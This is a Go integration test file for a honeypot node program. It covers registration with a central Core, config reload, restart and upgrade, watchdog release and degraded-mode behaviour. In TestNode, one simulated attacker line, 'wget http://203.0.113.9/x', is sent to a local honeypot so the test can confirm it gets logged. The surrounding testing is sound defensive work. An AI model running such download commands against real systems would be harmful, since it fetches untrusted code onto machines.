package nodetest

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"forager/build/devcore/core"

	"golang.org/x/sys/unix"
)

func contextWithPatience(t *testing.T) (context.Context, context.CancelFunc) {
	return context.WithTimeout(t.Context(), patience)
}

// attack sends one line to a pot.
func attack(t *testing.T, address, line string) {
	t.Helper()
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, line+"\n"); err != nil {
		t.Fatal(err)
	}
}

// From the attack to Core, a reload, and the end.
func TestNode(t *testing.T) {
	c := startCore(t)
	w := c.Watch()
	dir := t.TempDir()
	file := filepath.Join(dir, "f.conf")
	write := func(text string) {
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	base := fmt.Sprintf("core %s\nnode-id 42\nstate-dir %s\npot tcp id=one listen=127.0.0.1:0\n", c.Addr(), filepath.Join(dir, "state"))
	write(base)
	n := start(t, program, "-c", file)
	until(t, w, `"NodeRegistration":{"node_id":42,`)
	until(t, w, `"pot_id":"one","pot_type":"tcp","status":"Running"`)
	if link := n.status("link"); !strings.HasPrefix(link, "up") {
		t.Errorf("link: %s", link)
	}
	attack(t, n.address("one"), "wget http://203.0.113.9/x")
	until(t, w, "203.0.113.9")

	write(base + "pot tcp id=two listen=127.0.0.1:0\nheartbeat 20s\n")
	n.signal(syscall.SIGHUP)
	until(t, w, `"pot_id":"two","pot_type":"tcp","status":"Running"`)
	n.says("needs Restart: -heartbeat")
	write(base + "pot tcp id=two\n")
	if err := c.Command(42, `"UpdateConfig"`); err != nil {
		t.Fatal(err)
	}
	until(t, w, "f.conf:5")
	attack(t, n.address("two"), "still there")
	until(t, w, "still there")

	n.signal(syscall.SIGTERM)
	until(t, w, `"status":"Stopped"}`)
	until(t, w, `"NodeEvent":"Stopped"`)
	until(t, w, `"NodeDrop"`)
	if code := n.ended(); code != 0 {
		t.Errorf("exit %d", code)
	}
	if _, err := os.Stat(n.control); !os.IsNotExist(err) {
		t.Errorf("the control socket is left: %v", err)
	}
}

// Who ends the node while Core has it restart has the last word.
func TestStoppedDuringRestart(t *testing.T) {
	c := startCore(t)
	c.SetFaults(core.Faults{ReadRate: 300}) // bytes a second: so the goodbye takes one
	w := c.Watch()
	n := start(t, program, "-core", c.Addr(), "-node-id", "42", "-state-dir", t.TempDir(), "-pot", "tcp listen=127.0.0.1:0")
	until(t, w, `"NodeEvent":"Started"`)
	if err := c.Command(42, `"Restart"`); err != nil {
		t.Fatal(err)
	}
	n.says("Core restarts this node")
	n.signal(syscall.SIGTERM)
	if code := n.ended(); code != 0 {
		t.Errorf("exit %d", code)
	}
	n.says("terminated: stopping")
}

// TestWatchdogLeftOpen: a new program that can't run lets go of the device
// that the old one has left it, or the machine is reset.
func TestWatchdogLeftOpen(t *testing.T) {
	for _, args := range [][]string{{"-no-such-option"}, {"-tls", "-tls-ca", "/nowhere"}} {
		dog, err := os.Create(filepath.Join(t.TempDir(), "watchdog"))
		if err != nil {
			t.Fatal(err)
		}
		defer dog.Close()
		cmd := exec.CommandContext(t.Context(), program, append(args, "-control", "", "-intake", "")...)
		cmd.Env = append(clean(), "FORAGER_OPEN_WATCHDOG=3")
		cmd.ExtraFiles = []*os.File{dog}
		if err := cmd.Run(); err == nil {
			t.Errorf("%q: runs", args)
		}
		if b, err := os.ReadFile(dog.Name()); err != nil || string(b) != "V" {
			t.Errorf("%q: wrote %q to the device, %v", args, b, err)
		}
	}
}

// Restart keeps the process and what Core installed, and takes an upgrade.
func TestRestart(t *testing.T) {
	c := startCore(t)
	w := c.Watch()
	dir := t.TempDir()
	path := filepath.Join(dir, "forager")
	install(t, program, path)
	n := start(t, path, "-core", c.Addr(), "-node-id", "42", "-state-dir", filepath.Join(dir, "state"))
	until(t, w, `"NodeEvent":"Started"`)
	if err := c.Command(42, `{"InstallPot":{"pot_id":"kept","honeypot_type":"tcp","config":{"listen":"127.0.0.1:0"},"auto_start":true}}`); err != nil {
		t.Fatal(err)
	}
	until(t, w, `"pot_id":"kept","pot_type":"tcp","status":"Running"`)

	install(t, upgrade, path)
	if err := c.Command(42, `"Restart"`); err != nil {
		t.Fatal(err)
	}
	until(t, w, `"NodeDrop"`)
	until(t, w, `"NodeRegistration":{"node_id":42,`)
	until(t, w, `"pot_id":"kept","pot_type":"tcp","status":"Running"`)
	if v := n.status("version"); v != upgradeVersion {
		t.Errorf("version %s runs", v)
	}
	if err := n.cmd.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("the process is another one: %v", err)
	}

	// Without its file it comes back as what it was.
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	if err := c.Command(42, `{"Restart":{}}`); err != nil {
		t.Fatal(err)
	}
	until(t, w, `"NodeDrop"`)
	until(t, w, `"NodeRegistration":{"node_id":42,`)
	until(t, w, `"status":"Running"`) // it has its acknowledgement
	if err := c.Command(42, `"stop"`); err != nil {
		t.Fatal(err)
	}
	if code := n.ended(); code != 0 {
		t.Errorf("exit %d", code)
	}
}

// install puts a copy of from in the place of to, as a package manager does.
func install(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to+".new", b, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(to+".new", to); err != nil {
		t.Fatal(err)
	}
}

// What does not work is said, in the log, to Core and in the status, and the
// rest goes on.
func TestDegraded(t *testing.T) {
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer taken.Close()
	tests := []struct {
		name  string
		setup func(t *testing.T, dir string) []string
		want  string // the option that is named
	}{
		{"pot's port taken", func(*testing.T, string) []string {
			return []string{"-pot", "tcp id=busy listen=" + taken.Addr().String()}
		}, "-pot"},
		{"intake's port taken", func(*testing.T, string) []string { return []string{"-intake", taken.Addr().String()} }, "-intake"},
		{"no place for the control socket", func(_ *testing.T, dir string) []string { return []string{"-control", dir + "/none/sock"} }, "-control"},
		{"control socket in use", func(t *testing.T, dir string) []string {
			l, err := net.Listen("unix", dir+"/live")
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { l.Close() })
			return []string{"-control", dir + "/live"}
		}, "-control"},
		{"state directory is a file", func(t *testing.T, dir string) []string {
			if err := os.WriteFile(dir+"/file", nil, 0o600); err != nil {
				t.Fatal(err)
			}
			return []string{"-state-dir", dir + "/file"}
		}, "-state-dir"},
		{"state directory is read-only", func(t *testing.T, dir string) []string {
			mount(t, dir, unix.MS_RDONLY)
			return []string{"-state-dir", dir}
		}, "-state-dir"},
		{"state directory is full", func(t *testing.T, dir string) []string {
			mount(t, dir, 0)
			fill(t, dir+"/ballast")
			return []string{"-state-dir", dir}
		}, "-state-dir"},
		{"no place for the secret", func(*testing.T, string) []string { return []string{"-totp", "-state-dir", "/proc/none"} }, "-state-dir"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := startCore(t)
			w := c.Watch()
			dir := t.TempDir()
			args := append([]string{"-core", c.Addr(), "-state-dir", filepath.Join(dir, "state"), "-pot", "tcp id=good listen=127.0.0.1:0"}, tt.setup(t, t.TempDir())...)
			n := start(t, program, args...)
			n.says("(" + tt.want)
			good := n.says("pot good: tcp on ")
			until(t, w, `"pot_id":"good","pot_type":"tcp","status":"Running"`)
			attack(t, good[strings.LastIndexByte(good, ' ')+1:], "in spite of all")
			until(t, w, "in spite of all")
			told(t, c, "("+tt.want)
			n.signal(syscall.SIGTERM)
			if code := n.ended(); code != 0 {
				t.Errorf("exit %d", code)
			}
		})
	}
}

// told waits until Core has got text in an error or a pot's state.
func told(t *testing.T, c *core.Core, text string) {
	t.Helper()
	until(t, c.Watch(), text)
}

// A node that runs without its state directory keeps its id all the same.
func TestStableID(t *testing.T) {
	if _, err := os.Stat("/etc/machine-id"); err != nil {
		t.Skip("this machine has no id")
	}
	var ids [2]uint64
	for i := range ids {
		c := startCore(t)
		ctx, cancel := contextWithPatience(t)
		defer cancel()
		n := start(t, program, "-core", c.Addr(), "-state-dir", "/proc/none")
		m, err := c.Watch().Until(ctx, core.IsKind(core.NodeRegistration))
		if err != nil {
			t.Fatal(err)
		}
		ids[i] = m.NodeID
		n.signal(syscall.SIGTERM)
		n.ended()
	}
	if ids[0] != ids[1] || ids[0] == 0 {
		t.Errorf("ids %d and %d", ids[0], ids[1])
	}
}

// A second signal does not wait for the goodbye.
func TestSecondSignal(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	n := start(t, program, "-core", l.Addr().String(), "-node-id", "42", "-state-dir", t.TempDir())
	conn, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	r := bufio.NewReader(conn)
	waitFor := func(text string) {
		for {
			line, err := r.ReadString('\n')
			if err != nil {
				t.Fatalf("before %q: %v", text, err)
			}
			if strings.Contains(line, text) {
				return
			}
		}
	}
	waitFor("NodeRegistration")
	if _, err := io.WriteString(conn, `{"version":2,"message":{"RegistrationAck":{"node_id":42,"accepted":true}}}`+"\n"); err != nil {
		t.Fatal(err)
	}
	waitFor("Started")
	n.signal(syscall.SIGTERM)
	waitFor("NodeDrop") // a Core that does not close: the node waits a second
	n.signal(syscall.SIGINT)
	if code := n.ended(); code != 1 {
		t.Errorf("exit %d", code)
	}
}

// mount puts a small tmpfs over dir where the test may; the other cases of
// the table need no rights.
func mount(t *testing.T, dir string, flags uintptr) {
	t.Helper()
	err := unix.Mount("none", dir, "tmpfs", flags, "size=64k")
	if errors.Is(err, fs.ErrPermission) {
		t.Skip("not allowed to mount")
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(dir, unix.MNT_DETACH) })
}

func fill(t *testing.T, path string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for block := make([]byte, 4096); err == nil; {
		_, err = f.Write(block)
	}
}
